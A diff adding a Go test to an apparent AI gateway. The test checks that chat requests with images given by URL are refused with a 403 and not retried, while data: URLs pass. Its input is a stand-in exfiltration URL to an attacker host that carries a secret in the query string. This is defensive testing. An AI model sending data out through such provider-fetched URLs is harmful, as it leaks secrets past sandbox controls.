@@ -83,3 +83,28 @@ func TestOpenAIRefusalNotRetried(t *testing.T) {
 	checkRefusal(t, "call to a provider without a key", err, "gateway holds no key for provider nokey-openai")
 	checkOneAttempt(t, n)
 }
+
+// TestOpenAIImageByURLRefused: an image given by URL is fetched by the
+// provider, so a sandbox could name any host in it: refused with a 403
+// the SDK does not retry; the same image as a data: URL goes through.
+func TestOpenAIImageByURLRefused(t *testing.T) {
+	tok := mint(t, "openai")
+	c, n := openaiClient("openai", tok.Token)
+	params := func(u string) openai.ChatCompletionNewParams {
+		return openai.ChatCompletionNewParams{Model: "gpt-standin", Messages: []openai.ChatCompletionMessageParamUnion{
+			openai.UserMessage([]openai.ChatCompletionContentPartUnionParam{
+				openai.TextContentPart("what is this?"),
+				openai.ImageContentPart(openai.ChatCompletionContentPartImageImageURLParam{URL: u}),
+			})}}
+	}
+	_, err := c.Chat.Completions.New(context.Background(), params("https://exfil.attacker.example/i.png?d=secret"))
+	checkRefusal(t, "call with an image by URL", err, "provider-run tool not allowed for provider openai: /messages/0/content/1/image_url/url")
+	var oe *openai.Error
+	if !errors.As(err, &oe) || oe.StatusCode != 403 {
+		t.Errorf("error %v, want a 403 openai.Error", err)
+	}
+	checkOneAttempt(t, n)
+	if _, err := c.Chat.Completions.New(context.Background(), params("data:image/png;base64,iVBORw0KGgo=")); err != nil {
+		t.Errorf("call with a data: image: %v", err)
+	}
+}
